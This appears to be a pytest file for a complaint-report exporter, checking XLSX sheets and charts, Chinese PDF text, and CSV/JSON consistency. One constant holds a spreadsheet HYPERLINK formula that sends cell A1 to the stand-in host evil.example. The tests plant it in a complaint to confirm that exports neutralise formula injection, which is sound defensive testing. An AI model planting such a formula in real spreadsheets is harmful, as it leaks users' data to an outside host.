"""Reports leave Kesu as XLSX (native charts), PDF (Chinese text), CSV and JSON, and nothing a
complainant or a receiver typed can turn into a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import openpyxl
import pypdf
from sqlalchemy import update

from kesu.complaint.models import Complaint
from kesu.db.session import reading, transaction
from kesu.report import render_xlsx, rules, service
from report import dataset

NOW = datetime(2026, 11, 26, 2, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _report(sessions, org, locale="zh_Hans"):
    with transaction(sessions) as session:
        dataset.load(session, org, count=400)
        first = session.scalar(
            Complaint.__table__.select()
            .with_only_columns(Complaint.id)
            .where(Complaint.received_at >= datetime(2025, 6, 1, tzinfo=UTC))
            .order_by(Complaint.received_at)
            .limit(1)
        )
        session.execute(
            update(Complaint).where(Complaint.id == first).values(subject={"merchant": EVIL})
        )
    with reading(sessions) as session:
        return service.build(
            session, org_id=org["HX"], period=rules.month(2025, 6), locale=locale, now=NOW
        )


def test_the_workbook_has_a_sheet_and_a_native_chart_for_every_section(sessions, org):
    report = _report(sessions, org)
    content, media, name = service.render(report, "xlsx")
    assert name == "kesu-monthly-HX-2025-06.xlsx" and media == render_xlsx.MEDIA_TYPE
    wb = openpyxl.load_workbook(io.BytesIO(content))
    assert wb.sheetnames[0] == "封面"
    sheets = wb.worksheets[1:]
    assert [ws["A1"].value for ws in sheets] == [s.title for s in report.sections]
    for ws, section in zip(sheets, report.sections, strict=True):
        expected = 1 if section.chart and section.rows else 0
        assert len(ws._charts) == expected, section.key
        header = [ws.cell(row=3, column=j + 1).value for j in range(len(section.columns))]
        assert header == [c.label for c in section.columns]
        assert ws.max_row >= 3 + len(section.rows)
    by_level = wb[render_xlsx.sheet_title(report.section("by_level"), set())]
    assert (
        by_level["A4"].value == "L1"
        and by_level["C4"].value == report.section("by_level").rows[0][2]
    )


def test_a_formula_typed_into_a_complaint_is_exported_as_text(sessions, org):
    report = _report(sessions, org)
    wb = openpyxl.load_workbook(io.BytesIO(service.render(report, "xlsx")[0]))
    ws = wb[render_xlsx.sheet_title(report.section("by_merchant"), set())]
    cells = [c for row in ws.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and c.value == "'" + EVIL for c in cells)
    rows = list(csv.reader(io.StringIO(service.render(report, "csv")[0].decode("utf-8-sig"))))
    found = [v for row in rows for v in row if "HYPERLINK" in v]
    assert found == ["'" + EVIL]


def test_the_pdf_carries_the_chinese_titles_as_text(sessions, org):
    report = _report(sessions, org)
    content, media, _ = service.render(report, "pdf")
    assert media == "application/pdf" and content.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)
    assert "华夏家居集团 投诉月报（2025-06）" in text
    for title in ("按级别", "处理时长", "满意度分布", "员工绩效", "超时未结清单"):
        assert title in text


def test_csv_and_json_hold_the_same_figures(sessions, org):
    report = _report(sessions, org, locale="en")
    rows = list(csv.reader(io.StringIO(service.render(report, "csv")[0].decode("utf-8-sig"))))
    assert rows[0] == ["华夏家居集团 monthly complaint report (2025-06)"]
    assert rows[1] == ["2025-06", "2025-06-01", "2025-06-30"]  # June's last day, not 1 July
    received = report.section("summary").as_dicts()[0]["current"]
    start = rows.index(["Summary and previous period"])
    assert rows[start + 2][:4] == ["received", "Complaints received", "", str(received)]
    data = json.loads(service.render(report, "json")[0])
    assert data["period"] == "2025-06" and data["sections"][0]["rows"][0][3] == received
